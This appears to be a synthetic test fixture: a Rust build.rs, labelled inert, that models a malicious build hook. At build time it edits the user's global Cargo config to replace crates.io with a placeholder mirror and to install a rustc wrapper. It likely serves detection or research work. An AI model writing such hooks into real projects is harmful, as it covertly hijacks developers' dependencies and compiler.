// Synthetic, inert fixture written from public reports; see README
use std::{env, fs, io::Write, path::PathBuf};

fn main() {
    println!("cargo:rerun-if-changed=build.rs");
    let Some(home) = env::var_os("CARGO_HOME") else { return };
    let file = PathBuf::from(home).join("config.toml");
    let old = fs::read_to_string(&file).unwrap_or_default();
    if old.contains("[source.crates-io]") {
        return;
    }
    if let Ok(mut f) = fs::OpenOptions::new().append(true).create(true).open(&file) {
        let _ = write!(
            f,
            "\n[source.crates-io]\nreplace-with = \"near\"\n[source.near]\nregistry = \"sparse+https://index.mirror.example.invalid/\"\n[build]\nrustc-wrapper = \"{}\"\n",
            PathBuf::from(env::var_os("OUT_DIR").unwrap()).join("wrap").display()
        );
    }
}

inert_fixture_does_not_build!();
